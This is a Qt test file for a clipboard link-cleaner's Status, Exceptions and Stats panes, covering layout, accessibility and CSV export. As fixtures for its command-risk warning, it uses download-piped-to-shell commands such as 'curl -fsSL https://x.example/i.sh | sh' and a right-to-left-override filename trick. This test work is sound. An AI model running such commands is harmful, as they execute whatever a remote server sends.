// The panes that show what happened: Status (with the command warning and
// last-clean sections), Exceptions and Stats with its CSV export.
#include <chrono>
#include <ctime>
#include <filesystem>
#include <memory>
#include <string>
#include <vector>

#include <QCheckBox>
#include <QClipboard>
#include <QGuiApplication>
#include <QMouseEvent>
#include <QGroupBox>
#include <QLabel>
#include <QListWidget>
#include <QPushButton>
#include <QScrollArea>
#include <QScrollBar>
#include <QStackedWidget>
#include <QTest>
#include <QToolButton>

#include "AccessibleToggle.h"
#include "AccessibleTree.h"
#include "QtTestMain.h"
#include "ScourletCore/clipboard/ClipboardMonitor.h"
#include "ScourletCore/clipboard/StatsTracker.h"
#include "ScourletCore/linkrewriting/WaybackLinkBuilder.h"
#include "ScourletCore/platform/InMemoryUserDefaults.h"
#include "ScourletCore/rules/DomainExceptionStore.h"
#include "app/settings/DomainExceptionsPane.h"
#include "app/settings/FileSaver.h"
#include "app/settings/LinkButton.h"
#include "app/settings/StatsPane.h"
#include "app/settings/StatusPane.h"
#include "app/settings/WrappingTextView.h"
#include "support/ManualClock.h"
#include "support/TempDir.h"

namespace scourlet::app {

namespace {

namespace fs = std::filesystem;

// The text of a label, or of a view of outside text.
QString labelText(QWidget& root, const QString& name) {
    if (auto* view = root.findChild<WrappingTextView*>(name)) {
        return view->text();
    }
    auto* label = root.findChild<QLabel*>(name);
    return label == nullptr ? QStringLiteral("<missing %1>").arg(name) : label->text();
}

CommandRiskResult risk(std::string command) {
    CommandRiskResult result;
    result.command = std::move(command);
    result.severity = CommandRiskSeverity::danger;
    result.rulesVersion = "7";
    return result;
}

// A save dialog that answers with a fixed path (or a cancel) and records errors.
class ScriptedSaver final : public FileSaver {
public:
    std::optional<QString> target;
    std::vector<QString> errors;
    Request lastRequest;

protected:
    std::optional<QString> chooseTarget(QWidget*, const Request& request) override {
        lastRequest = request;
        return target;
    }
    void reportError(QWidget*, const QString& message) override { errors.push_back(message); }
};

// The processor time this thread spent since the timer was made, in
// milliseconds: what the code costs, whatever else the machine is running.
class ThreadTimer {
public:
    ThreadTimer() : start_(now()) {}
    qint64 elapsed() const { return (now() - start_) / 1'000'000; }

private:
    static qint64 now() {
        timespec t{};
        clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t);
        return static_cast<qint64>(t.tv_sec) * 1'000'000'000 + t.tv_nsec;
    }
    qint64 start_;
};

}  // namespace

class ReadingPanesTest : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void statusShowsPlaceholdersThenWhatHappened();
    void statusTitleFollowsThePendingFlagAlone();
    void outsideTextIsPlainAndVisible();
    void lastCleanCopiesTheExactLinks();
    void longLinksAndCommandsStayInsideThePane();
    void wrappingViewShowsEveryCharacterAndCopiesTheSelection();
    void exceptionsListAndRemove();
    void exceptionRowsReadByTheirHost();
    void exceptionsDrawTheirSymbolsThemselves();
    void statsWindowsAndCollectionSwitch();
    void statsControlsActOnTheirAccessibilityActions();
    void statsCountsStayOnOneLineBesideTheirIcons();
    void csvExportIsTheTrackersTextByteForByte();
    void failedOrCancelledExportKeepsTheOldFile();
};

void ReadingPanesTest::statusShowsPlaceholdersThenWhatHappened() {
    StatusPane pane([](const std::string&) {});
    auto* cleanBox = pane.findChild<QGroupBox*>(QStringLiteral("status-clean-section"));
    QCOMPARE(cleanBox->title(), QStringLiteral("Last Cleaned Link"));
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("status-no-warning")) != nullptr);
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("status-no-clean")) != nullptr);

    CleanResult result{.originalURL = "https://a.example/?utm_source=x", .cleanedURL = "https://a.example/"};
    pane.showStatus({risk("curl x | sh"), result, false});
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("command-risk-section")) != nullptr);
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("last-clean-detail")) != nullptr);
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("status-no-warning")) == nullptr);
    QCOMPARE(labelText(pane, QStringLiteral("command-risk-severity")), QStringLiteral("\u26A0 Danger"));

    // The warning is cleared: its placeholder comes back, the link stays.
    pane.showStatus({std::nullopt, result, false});
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("command-risk-section")) == nullptr);
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("status-no-warning")) != nullptr);
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("last-clean-detail")) != nullptr);
}

void ReadingPanesTest::statusTitleFollowsThePendingFlagAlone() {
    StatusPane pane([](const std::string&) {});
    auto* cleanBox = pane.findChild<QGroupBox*>(QStringLiteral("status-clean-section"));
    pane.showStatus({std::nullopt, std::nullopt, true});
    QCOMPARE(cleanBox->title(), QStringLiteral("Link Needs Action"));
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("status-no-clean")) != nullptr);

    CleanResult result{.originalURL = "https://a.co/d/x", .cleanedURL = "https://a.co/d/x"};
    pane.showStatus({std::nullopt, result, true});
    QCOMPARE(labelText(pane, QStringLiteral("last-clean-cleaned")), QStringLiteral("https://a.co/d/x"));
    QCOMPARE(pane.findChild<QPushButton*>(QStringLiteral("last-clean-copy"))->text(),
             QStringLiteral("Copy Current Link"));
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("last-clean-impact")) == nullptr);
    QVERIFY(pane.findChild<LinkButton*>(QStringLiteral("tracking-methodology-link")) != nullptr);

    pane.showStatus({std::nullopt, result, false});
    QCOMPARE(cleanBox->title(), QStringLiteral("Last Cleaned Link"));
    QVERIFY(pane.findChild<QWidget*>(QStringLiteral("last-clean-impact")) != nullptr);
}

void ReadingPanesTest::outsideTextIsPlainAndVisible() {
    StatusPane pane([](const std::string&) {});
    pane.showStatus({risk("<b>bold</b>\necho \u202Egnp.exe"), std::nullopt, false});
    // Plain text (the view has no rich text), controls made visible.
    auto* command = pane.findChild<WrappingTextView*>(QStringLiteral("command-risk-command"));
    QCOMPARE(command->text(), QStringLiteral("<b>bold</b>\necho \u27E8U+202E\u27E9gnp.exe"));
}

void ReadingPanesTest::lastCleanCopiesTheExactLinks() {
    std::vector<std::string> copied;
    StatusPane pane([&](const std::string& text) { copied.push_back(text); });
    const std::string cleaned = "https://shop.example/p?id=1&x=2";
    pane.showStatus({std::nullopt, CleanResult{.originalURL = cleaned + "&utm_source=y", .cleanedURL = cleaned},
               false});
    QTest::mouseClick(pane.findChild<QPushButton*>(QStringLiteral("last-clean-copy")), Qt::LeftButton);
    auto* wayback = pane.findChild<QPushButton*>(QStringLiteral("last-clean-copy-wayback"));
    QVERIFY(wayback != nullptr);
    QVERIFY(wayback->toolTip().startsWith(QStringLiteral("Copies an Internet Archive lookup link.")));
    QTest::mouseClick(wayback, Qt::LeftButton);
    QCOMPARE(copied.size(), 2u);
    QCOMPARE(copied[0], cleaned);
    QCOMPARE(copied[1], *WaybackLinkBuilder::lookupURL(cleaned));
}

// A link or a command without a space wraps inside the pane, whatever its
// length, up to the largest text the clipboard admits; the pane never scrolls
// sideways, the rule-set caption stays in view, and showing it stays quick.
void ReadingPanesTest::longLinksAndCommandsStayInsideThePane() {
    // A tracked link as people copy it from a social site: 206 characters, no space.
    std::string link =
        "https://l.social.example/l.php?u=https%3A%2F%2Fshop.example%2Fproducts%2Fwireless-headphones"
        "%3Futm_source%3Dsocial%26utm_medium%3Dpaid%26utm_campaign%3Dspring_sale&h=AT0x9Kq3mZ7vR2pLw8NnB5cD1"
        "eF4gH6jK9lM2nP5qR8sT1uV4wX7yZ0aB3cD6eF9gH2jK5";
    link.resize(206, 'x');
    std::string longLink = "https://t.example/r?u=";
    while (longLink.size() < 1660) {
        longLink += "aHR0cHM6Ly9leGFtcGxlLmNvbS8_dXRtX3NvdXJjZT1uZXdz";
    }
    longLink.resize(1660);
    const std::string unbroken(ClipboardMonitor::maximumStringBytes, 'A');
    std::string manyLines;
    while (manyLines.size() + 24 < ClipboardMonitor::maximumStringBytes) {
        manyLines += "curl -fsSL x.example|sh\n";
    }
    const struct {
        const char* name;
        std::string command;
        std::string url;
    } cases[] = {
        {"206-character link", "curl -fsSL https://x.example/i.sh | sh", link},
        {"1,660-character link", "curl -fsSL https://x.example/i.sh | sh", longLink},
        {"64 KiB command without a space", "curl " + unbroken + " | sh", link},
        {"64 KiB command of many lines", manyLines, longLink},
    };
    {
        // Fonts and styles are loaded once, by whichever pane comes first.
        StatusPane warmUp([](const std::string&) {});
        warmUp.show();
        warmUp.showStatus({risk("x"), CleanResult{.originalURL = link, .cleanedURL = link}, false});
        warmUp.grab();
    }
    for (const auto& c : cases) {
        StatusPane pane([](const std::string&) {});
        pane.resize(960, 640);
        pane.show();
        QVERIFY(QTest::qWaitForWindowExposed(&pane));
        auto* scroll = pane.findChild<QScrollArea*>();
        CommandRiskResult warning = risk(c.command);
        warning.findings.push_back(CommandRiskFinding{.id = "pipe",
                                                      .summary = "Pipes a download into a shell",
                                                      .explanation = "Runs whatever the server sends.",
                                                      .matchedText = c.command.substr(0, 160)});
        ThreadTimer timer;
        pane.showStatus({warning, CleanResult{.originalURL = c.url, .cleanedURL = c.url}, false});
        for (int turn = 0; turn < 3; ++turn) {
            QCoreApplication::processEvents();  // the layouts run, the scroll area follows
        }
        scroll->viewport()->grab();          // and what is in view is painted
        const qint64 shownMs = timer.elapsed();
        const int viewport = scroll->viewport()->width();

        // Scrolled to the end and painted again: only what is in view is drawn.
        timer = ThreadTimer();
        scroll->verticalScrollBar()->setValue(scroll->verticalScrollBar()->maximum());
        scroll->viewport()->grab();
        const qint64 redrawnMs = timer.elapsed();

        QVERIFY2(scroll->horizontalScrollBar()->maximum() == 0, c.name);
        QVERIFY2(scroll->widget()->width() <= viewport, c.name);
        auto* caption = pane.findChild<QLabel*>(QStringLiteral("command-risk-rules"));
        const QRect captionInView(caption->mapTo(scroll->viewport(), QPoint(0, 0)), caption->size());
        QVERIFY2(captionInView.left() >= 0 && captionInView.right() < viewport, c.name);
        // Every block of the pane within the view, and the links, the command
        // and the matched text shown by views that wrap them inside it (a
        // label lets a run without spaces run past its edge, cut off).
        for (QWidget* shown : scroll->widget()->findChildren<QWidget*>()) {
            if (shown->isVisible()) {
                const int right = shown->mapTo(scroll->viewport(), QPoint(shown->width(), 0)).x();
                QVERIFY2(right <= viewport,
                         qPrintable(QString::fromLatin1(c.name) + QLatin1Char(' ') + shown->objectName()));
            }
        }
        for (const char* name : {"command-risk-command", "command-risk-matched", "last-clean-original",
                                 "last-clean-cleaned"}) {
            auto* view = pane.findChild<WrappingTextView*>(QString::fromLatin1(name));
            QVERIFY2(view != nullptr, name);
            // As tall as its text needs at its width: nothing cut off at the bottom.
            QVERIFY2(view->height() >= view->heightForWidth(view->width()), name);
        }
        // Processor time measured for the 64 KiB texts: shown in 150 to 700 ms
        // in the sanitizer build on a busy machine (about 50 ms in a release
        // build), redrawn in under 40 ms. The labels this replaced took 1.5 s
        // and more in the sanitizer build, at every change of the monitor.
        const QString timings = QStringLiteral("%1: shown in %2 ms, redrawn in %3 ms")
                                    .arg(QString::fromLatin1(c.name))
                                    .arg(shownMs)
                                    .arg(redrawnMs);
        qInfo("%s", qPrintable(timings));
        QVERIFY2(shownMs < 1500, qPrintable(timings));
        QVERIFY2(redrawnMs < 100, qPrintable(timings));
    }
}

void ReadingPanesTest::wrappingViewShowsEveryCharacterAndCopiesTheSelection() {
    const struct {
        const char* name;
        QString text;
    } texts[] = {
        {"a run without a space", QString(ClipboardMonitor::maximumStringBytes, QLatin1Char('A'))},
        {"a link", QStringLiteral("https://l.social.example/l.php?u=https%3A%2F%2Fshop.example%2Fp&h=") +
                       QString(140, QLatin1Char('x'))},
        {"lines", QStringLiteral("echo one\necho two\n\necho four")},
    };
    for (const auto& t : texts) {
        WrappingTextView view(t.text);
        const QFontMetrics metrics(view.font());
        QVERIFY2(view.minimumSizeHint().width() <= 10 * metrics.averageCharWidth(), t.name);
        for (int width : {120, 400, 900}) {
            // Tall enough for every character at that width: wrapped, not cut.
            int lines = 0;
            for (const QString& line : t.text.split(QLatin1Char('\n'))) {
                lines += std::max(1, static_cast<int>(metrics.horizontalAdvance(line) / width));
            }
            QVERIFY2(view.heightForWidth(width) >= lines * metrics.height(), t.name);
        }
        view.resize(400, view.heightForWidth(400));
        view.show();
        view.setFocus();
        QTest::keySequence(&view, QKeySequence::SelectAll);
        QCOMPARE(view.selectedText(), t.text);
        QTest::keySequence(&view, QKeySequence::Copy);
        QCOMPARE(QGuiApplication::clipboard()->text(), t.text);
    }

    // A double click takes the whole run under the pointer: the link, not a word of it.
    const QString sentence = QStringLiteral("open https://x.example/a?b=1&c=2 now");
    WrappingTextView view(sentence);
    view.resize(600, view.heightForWidth(600));
    view.show();
    const int insideLink = QFontMetrics(view.font()).horizontalAdvance(QStringLiteral("open https://x.ex"));
    QTest::mouseDClick(&view, Qt::LeftButton, Qt::NoModifier, QPoint(insideLink, 5));
    QCOMPARE(view.selectedText(), QStringLiteral("https://x.example/a?b=1&c=2"));
    // A drag from the start selects up to the pointer (a move with the button held).
    QTest::mousePress(&view, Qt::LeftButton, Qt::NoModifier, QPoint(0, 5));
    const QPointF afterOpen(QFontMetrics(view.font()).horizontalAdvance(QStringLiteral("open")), 5);
    QMouseEvent move(QEvent::MouseMove, afterOpen, view.mapToGlobal(afterOpen), Qt::NoButton, Qt::LeftButton,
                     Qt::NoModifier);
    QCoreApplication::sendEvent(&view, &move);
    QTest::mouseRelease(&view, Qt::LeftButton);
    QCOMPARE(view.selectedText(), QStringLiteral("open"));
}

void ReadingPanesTest::exceptionsListAndRemove() {
    auto store = std::make_shared<DomainExceptionStore>(std::make_shared<InMemoryUserDefaults>());
    DomainExceptionsPane pane(store);
    auto* states = pane.findChild<QStackedWidget*>();
    QCOMPARE(states->currentWidget()->objectName(), QStringLiteral("exceptions-empty"));

    store->disable("one.example");
    store->disable("<b>two</b>.example");
    store->disable("three.example");
    pane.refresh();  // what the application does after the store announced the change
    auto* list = pane.findChild<QListWidget*>(QStringLiteral("exceptions-list"));
    QCOMPARE(states->currentWidget(), list);
    QCOMPARE(list->count(), 3);
    auto removeButtons = pane.findChildren<QToolButton*>(QStringLiteral("exception-remove"));
    QCOMPARE(removeButtons.size(), 3);
    const QString second = QString::fromStdString(store->disabledDomains()[1].host);
    QCOMPARE(removeButtons[1]->accessibleName(), QStringLiteral("Re-enable cleaning for ") + second);
    QVERIFY(removeButtons[1]->toolTip().contains(second.toHtmlEscaped()));

    removeButtons[1]->click();
    QTRY_COMPARE(list->count(), 2);
    const auto left = store->disabledDomains();
    QCOMPARE(left.size(), 2u);
    QCOMPARE(left[0].host, std::string("one.example"));
    QCOMPARE(left[1].host, std::string("three.example"));
    auto hosts = pane.findChildren<QLabel*>(QStringLiteral("exception-host"));
    QCOMPARE(hosts.size(), 2);
    QCOMPARE(hosts[0]->textFormat(), Qt::PlainText);

    for (const char* host : {"one.example", "three.example"}) {
        store->enable(host);
    }
    pane.refresh();
    QCOMPARE(states->currentWidget()->objectName(), QStringLiteral("exceptions-empty"));
}

// A screen reader reads each row by its host and finds the row's button
// inside it, named and described in plain text, also for a host that looks
// like markup; pressing the button as the reader does re-enables that host alone.
void ReadingPanesTest::exceptionRowsReadByTheirHost() {
    auto store = std::make_shared<DomainExceptionStore>(std::make_shared<InMemoryUserDefaults>());
    DomainExceptionsPane pane(store);
    for (const char* host : {"one.example", "<b>two</b>.example", "three.example"}) {
        store->disable(host);
    }
    pane.refresh();
    QAccessibleInterface* list =
        testing::accessibleOf(pane.findChild<QListWidget*>(QStringLiteral("exceptions-list")));
    QCOMPARE(list->role(), QAccessible::List);
    QCOMPARE(testing::accessibleName(list), QStringLiteral("Exceptions"));
    const std::vector<DomainException> stored = store->disabledDomains();
    QCOMPARE(list->childCount(), static_cast<int>(stored.size()));
    for (int index = 0; index < list->childCount(); ++index) {
        const QString host = QString::fromStdString(stored[static_cast<std::size_t>(index)].host);
        QAccessibleInterface* row = list->child(index);
        QCOMPARE(row->role(), QAccessible::ListItem);
        QCOMPARE(testing::accessibleName(row), host);
        QCOMPARE(row->parent(), list);
        QCOMPARE(list->indexOfChild(row), index);
        const std::vector<QAccessibleInterface*> buttons =
            testing::descendantsWithRole(row, QAccessible::Button);
        QCOMPARE(buttons.size(), 1u);
        const QString label = QStringLiteral("Re-enable cleaning for ") + host;
        QCOMPARE(testing::accessibleName(buttons[0]), label);
        QCOMPARE(testing::accessibleDescription(buttons[0]), label);
        QCOMPARE(buttons[0]->parent(), row);
    }

    QAccessibleInterface* second =
        testing::descendantsWithRole(list->child(1), QAccessible::Button).front();
    second->actionInterface()->doAction(QAccessibleActionInterface::pressAction());
    QTRY_COMPARE(list->childCount(), 2);
    QCOMPARE(testing::accessibleName(list->child(0)), QStringLiteral("one.example"));
    QCOMPARE(testing::accessibleName(list->child(1)), QStringLiteral("three.example"));
    QCOMPARE(store->disabledDomains().size(), 2u);
}

// The symbols are the program's own drawings: they show without an icon
// theme or an emoji font.
void ReadingPanesTest::exceptionsDrawTheirSymbolsThemselves() {
    auto store = std::make_shared<DomainExceptionStore>(std::make_shared<InMemoryUserDefaults>());
    DomainExceptionsPane pane(store);
    auto* image = pane.findChild<QLabel*>(QStringLiteral("exceptions-empty-image"));
    QVERIFY(image != nullptr);
    QVERIFY(!image->pixmap().isNull());
    QVERIFY(image->pixmap().width() >= 32);

    store->disable("one.example");
    pane.refresh();
    auto* globe = pane.findChild<QLabel*>(QStringLiteral("exception-globe"));
    QVERIFY(globe != nullptr);
    QVERIFY(globe->text().isEmpty());
    QVERIFY(!globe->pixmap().isNull());
    QVERIFY(globe->pixmap().toImage().pixelColor(8, 8).alpha() > 0 ||
            globe->pixmap().toImage().pixelColor(2, 8).alpha() > 0);  // something is drawn

    // The remove button shows the trash symbol, not a word in its place.
    auto* remove = pane.findChild<QToolButton*>(QStringLiteral("exception-remove"));
    QVERIFY(remove->text().isEmpty());
    const QImage trash = remove->icon().pixmap(16, 16).toImage();
    QVERIFY(!trash.isNull());
    int inked = 0;
    for (int y = 0; y < trash.height(); ++y) {
        for (int x = 0; x < trash.width(); ++x) {
            inked += trash.pixelColor(x, y).alpha() > 0 ? 1 : 0;
        }
    }
    QVERIFY(inked > 16);
}

// In the narrowest settings window a four-digit count and its unit stay on
// one line, and each category shows its symbol.
void ReadingPanesTest::statsCountsStayOnOneLineBesideTheirIcons() {
    auto defaults = std::make_shared<InMemoryUserDefaults>();
    auto tracker = std::make_shared<StatsTracker>(defaults, std::make_shared<testing::ManualClock>());
    for (int i = 0; i < 1051; ++i) {
        tracker->recordClean(CleanResult{.originalURL = "https://a.example/?utm_source=x",
                                         .cleanedURL = "https://a.example/",
                                         .paramsRemoved = 1,
                                         .removedQueryParameters = {"utm_source"},
                                         .matchedCategories = {RuleCategoryType::analytics,
                                                               RuleCategoryType::redirectUnwrapping}});
    }
    StatsPane pane(tracker, nullptr, std::make_shared<ScriptedSaver>());
    pane.resize(720, 560);
    pane.show();
    QVERIFY(QTest::qWaitForWindowExposed(&pane));
    for (const char* name : {"Analytics", "Redirect Unwrapping"}) {
        auto* count = pane.findChild<QLabel*>(QStringLiteral("stats-category-") + QString::fromLatin1(name));
        QCOMPARE(count->text(), QStringLiteral("1051 params stripped"));
        QVERIFY2(count->height() < 2 * count->fontMetrics().lineSpacing(), name);
        QVERIFY2(count->width() >= count->fontMetrics().horizontalAdvance(count->text()), name);
    }
    for (RuleCategoryType category : allCases<RuleCategoryType>()) {
        const std::string_view raw = rawValue(category);
        const QString name = QString::fromUtf8(raw.data(), static_cast<qsizetype>(raw.size()));
        auto* symbol = pane.findChild<QLabel*>(QStringLiteral("stats-category-icon-") + name);
        QVERIFY2(symbol != nullptr && !symbol->pixmap().isNull(), qPrintable(name));
        QVERIFY(symbol->isVisible());
    }
}

void ReadingPanesTest::statsWindowsAndCollectionSwitch() {
    auto defaults = std::make_shared<InMemoryUserDefaults>();
    auto tracker = std::make_shared<StatsTracker>(defaults, std::make_shared<testing::ManualClock>());
    tracker->recordClean(CleanResult{.originalURL = "https://a.example/?utm_source=x",
                                     .cleanedURL = "https://a.example/",
                                     .paramsRemoved = 1,
                                     .removedQueryParameters = {"utm_source"},
                                     .matchedCategories = {RuleCategoryType::analytics}});
    StatsPane pane(tracker, nullptr, std::make_shared<ScriptedSaver>());
    QCOMPARE(labelText(pane, QStringLiteral("stats-total-cleaned")), QStringLiteral("1"));
    QCOMPARE(labelText(pane, QStringLiteral("stats-total-cleaned-label")), QStringLiteral("URLs cleaned today"));
    QCOMPARE(labelText(pane, QStringLiteral("stats-category-Analytics")), QStringLiteral("1 params stripped"));
    QCOMPARE(labelText(pane, QStringLiteral("stats-category-Custom")), QStringLiteral("0 params stripped"));

    pane.findChild<QPushButton*>(QStringLiteral("stats-window-All Time"))->click();
    QCOMPARE(labelText(pane, QStringLiteral("stats-total-cleaned-label")), QStringLiteral("Total URLs cleaned"));
    QCOMPARE(labelText(pane, QStringLiteral("stats-total-cleaned")), QStringLiteral("1"));

    // A clean recorded elsewhere shows after the tracker's announcement.
    tracker->recordClean(CleanResult{.originalURL = "https://b.example/?gclid=1", .cleanedURL = "https://b.example/"});
    QTRY_COMPARE(labelText(pane, QStringLiteral("stats-total-cleaned")), QStringLiteral("2"));

    auto* collect = pane.findChild<QCheckBox*>(QStringLiteral("stats-collect"));
    QVERIFY(collect->isChecked());
    QVERIFY(labelText(pane, QStringLiteral("stats-collect-caption")).startsWith(QStringLiteral("Keep on-device")));
    collect->click();
    QCOMPARE(defaults->boolForKey(StatsTracker::kCollectionEnabledKey), false);
    QVERIFY(labelText(pane, QStringLiteral("stats-collect-caption")).startsWith(QStringLiteral("Statistics collection is off")));
    collect->click();
    QCOMPARE(defaults->boolForKey(StatsTracker::kCollectionEnabledKey), true);
    QVERIFY(labelText(pane, QStringLiteral("stats-collect-caption")).startsWith(QStringLiteral("Keep on-device")));
}

void ReadingPanesTest::statsControlsActOnTheirAccessibilityActions() {
    auto defaults = std::make_shared<InMemoryUserDefaults>();
    auto clock = std::make_shared<testing::ManualClock>();
    clock->set(std::chrono::system_clock::time_point(std::chrono::hours(24 * 20'000)));
    auto tracker = std::make_shared<StatsTracker>(defaults, clock);
    const CleanResult clean{.originalURL = "https://a.example/?utm_source=x",
                            .cleanedURL = "https://a.example/",
                            .paramsRemoved = 1,
                            .removedQueryParameters = {"utm_source"}};
    tracker->recordClean(clean);  // ten days ago
    clock->advance(std::chrono::hours(24 * 10));
    tracker->recordClean(clean);
    StatsPane pane(tracker, nullptr, std::make_shared<ScriptedSaver>());
    const auto segment = [&pane](const char* window) {
        return pane.findChild<QPushButton*>(QStringLiteral("stats-window-") +
                                            QLatin1String(window));
    };
    const auto checkedSegments = [&] {
        QStringList checked;
        for (const char* window : {"Today", "7 Days", "30 Days", "All Time"}) {
            if (segment(window)->isChecked()) {
                checked.append(QLatin1String(window));
            }
        }
        return checked;
    };
    QCOMPARE(checkedSegments(), QStringList{QStringLiteral("Today")});
    QCOMPARE(labelText(pane, QStringLiteral("stats-total-cleaned")), QStringLiteral("1"));

    QVERIFY(testing::toggleByAccessibility(segment("30 Days")));
    QCOMPARE(checkedSegments(), QStringList{QStringLiteral("30 Days")});
    QCOMPARE(labelText(pane, QStringLiteral("stats-total-cleaned-label")),
             QStringLiteral("URLs cleaned in the last 30 days"));
    QCOMPARE(labelText(pane, QStringLiteral("stats-total-cleaned")), QStringLiteral("2"));
    // The window shown cannot be switched off, only another chosen.
    QVERIFY(testing::toggleByAccessibility(segment("30 Days")));
    QCOMPARE(checkedSegments(), QStringList{QStringLiteral("30 Days")});
    QVERIFY(testing::toggleByAccessibility(segment("7 Days")));
    QCOMPARE(checkedSegments(), QStringList{QStringLiteral("7 Days")});
    QCOMPARE(labelText(pane, QStringLiteral("stats-total-cleaned")), QStringLiteral("1"));

    auto* collect = pane.findChild<QCheckBox*>(QStringLiteral("stats-collect"));
    QVERIFY(testing::toggleByAccessibility(collect));
    QCOMPARE(defaults->boolForKey(StatsTracker::kCollectionEnabledKey), false);
    QVERIFY(!collect->isChecked());
    QVERIFY(testing::toggleByAccessibility(collect));
    QCOMPARE(defaults->boolForKey(StatsTracker::kCollectionEnabledKey), true);
}

void ReadingPanesTest::csvExportIsTheTrackersTextByteForByte() {
    testing::TempDir dir;
    auto tracker = std::make_shared<StatsTracker>(std::make_shared<InMemoryUserDefaults>(),
                                                  std::make_shared<testing::ManualClock>());
    tracker->recordClean(CleanResult{.originalURL = "https://a.example/?utm_source=x", .cleanedURL = "https://a.example/"});
    auto saver = std::make_shared<ScriptedSaver>();
    // The dialog adds the suffix; the path it answers with is used as it is.
    saver->target = QString::fromStdString((dir / "Scourlet-Stats.csv").string());
    StatsPane pane(tracker, nullptr, saver);
    pane.findChild<QPushButton*>(QStringLiteral("stats-export"))->click();
    QVERIFY(saver->errors.empty());
    QCOMPARE(saver->lastRequest.suggestedName, QStringLiteral("Scourlet-Stats.csv"));
    QCOMPARE(saver->lastRequest.nameFilter, QStringLiteral("CSV (*.csv)"));
    QCOMPARE(saver->lastRequest.defaultSuffix, QStringLiteral("csv"));
    QCOMPARE(testing::readFile(dir / "Scourlet-Stats.csv"), tracker->exportCSV());
}

void ReadingPanesTest::failedOrCancelledExportKeepsTheOldFile() {
    testing::TempDir dir;
    auto tracker = std::make_shared<StatsTracker>(std::make_shared<InMemoryUserDefaults>(),
                                                  std::make_shared<testing::ManualClock>());
    auto saver = std::make_shared<ScriptedSaver>();
    StatsPane pane(tracker, nullptr, saver);
    auto* exportButton = pane.findChild<QPushButton*>(QStringLiteral("stats-export"));

    saver->target = std::nullopt;  // cancelled: nothing happens, nothing is said
    exportButton->click();
    QVERIFY(saver->errors.empty());

    // A target that cannot be replaced: the folder of the file is gone.
    const fs::path old = dir / "stats.csv";
    testing::writeFile(old, "old export");
    saver->target = QString::fromStdString((dir / "gone" / "stats.csv").string());
    exportButton->click();
    QCOMPARE(saver->errors.size(), 1u);
    QVERIFY(saver->errors[0].contains(QStringLiteral("gone")));
    // A folder where the file goes.
    fs::create_directories(dir / "taken.csv");
    saver->target = QString::fromStdString((dir / "taken.csv").string());
    exportButton->click();
    QCOMPARE(saver->errors.size(), 2u);
    QCOMPARE(testing::readFile(old), std::string("old export"));
}

SCOURLET_QT_TEST(ReadingPanesTest);

}  // namespace scourlet::app

#include "ReadingPanesTest.moc"
